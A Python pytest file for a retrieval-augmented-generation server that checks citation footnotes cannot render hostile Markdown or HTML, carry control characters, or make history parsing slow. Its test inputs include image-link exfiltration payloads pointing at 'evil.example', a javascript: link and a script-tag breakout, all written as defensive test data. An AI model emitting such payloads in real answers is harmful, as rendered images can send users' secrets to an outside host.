"""Footnotes: what they say, what they never do to a client that draws Markdown, and how they go again."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.records import Citation
from rag.server.replies import footnotes
from rag.server.requests import Message, question_and_history


def cited(quote: str, *, source: str = "a.txt", place: str = "", number: int = 1) -> Citation:
    return Citation(number, source, 1, 0, len(quote), quote, "supported", 0, 5, place=place)


def test_each_once_with_its_place() -> None:
    one = cited("It was lit.", source="lights.pdf", place="page 3")
    two = cited("Bread\n rises.", number=2)
    assert footnotes([one, two, one]) == (
        "\n\n---\n\n[1] lights.pdf, page 3: “It was lit.” (supported)"
        "\n\n[2] a.txt: “Bread rises.” (supported)"
    )
    assert footnotes([]) == ""


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?secret)",
        "![x][y]",
        "[y]: https://evil.example/",
        "[x](javascript:alert(1))",
        "<img src=https://evil.example/>",
        "<https://evil.example/>",
        "</script><script>",
        "!\u200b[x]\u200b(https://evil.example)",
        "!\x00[x](https://evil.example)",
    ],
)
def test_nothing_is_drawn(hostile: str) -> None:
    for text in (footnotes([cited(hostile)]), footnotes([cited("q", source=hostile, place=hostile)])):
        assert not re.search(r"!\[|\]\(|<[a-zA-Z/!]|^\[[^\]]*\]:", text, re.MULTILINE), text


@pytest.mark.parametrize("hostile", ["a\x1b[31mb", "a\u202eb", "a\u2066b", "a\rb", "a\n\n---\n\n[2] b"])
def test_on_one_line_without_controls(hostile: str) -> None:
    line = footnotes([cited(hostile, source=hostile)]).removeprefix("\n\n---\n\n")
    assert "\n" not in line
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", line)


def test_a_long_quote_is_cut() -> None:
    assert len(footnotes([cited("word " * 1000)])) < 400


texts = st.text(max_size=60)


@given(
    st.text(alphabet="ab[]1 \n-", max_size=40), st.lists(st.builds(cited, texts, source=texts), min_size=1)
)
def test_what_was_put_below_an_answer_is_taken_off_again(answer: str, citations: list[Citation]) -> None:
    def remembered(text: str) -> str:
        messages = [Message(role="assistant", content=text), Message(role="user", content="And?")]
        return question_and_history(messages)[1][0].text

    answer = "So it is [1]." + answer.replace("---", "") + "."
    assert remembered(answer + footnotes(citations)) == answer
    assert remembered(answer) == answer


@pytest.mark.parametrize(
    "text",
    [
        "\n\n---\n\n[1] " + " " * 1_000_000 + "\nx",
        "\n\n---\n\n[1] x" * 60_000 + "\nx",
        "\n\n---\n\n" + "[1] x\n\n" * 120_000 + "x",
        "\n" * 1_000_000 + "x",
    ],
)
def test_no_text_makes_it_slow(text: str) -> None:
    begun = time.monotonic()
    messages = [Message(role="assistant", content=text), Message(role="user", content="And?")]
    assert question_and_history(messages)[1][0].text == text
    assert time.monotonic() - begun < 2
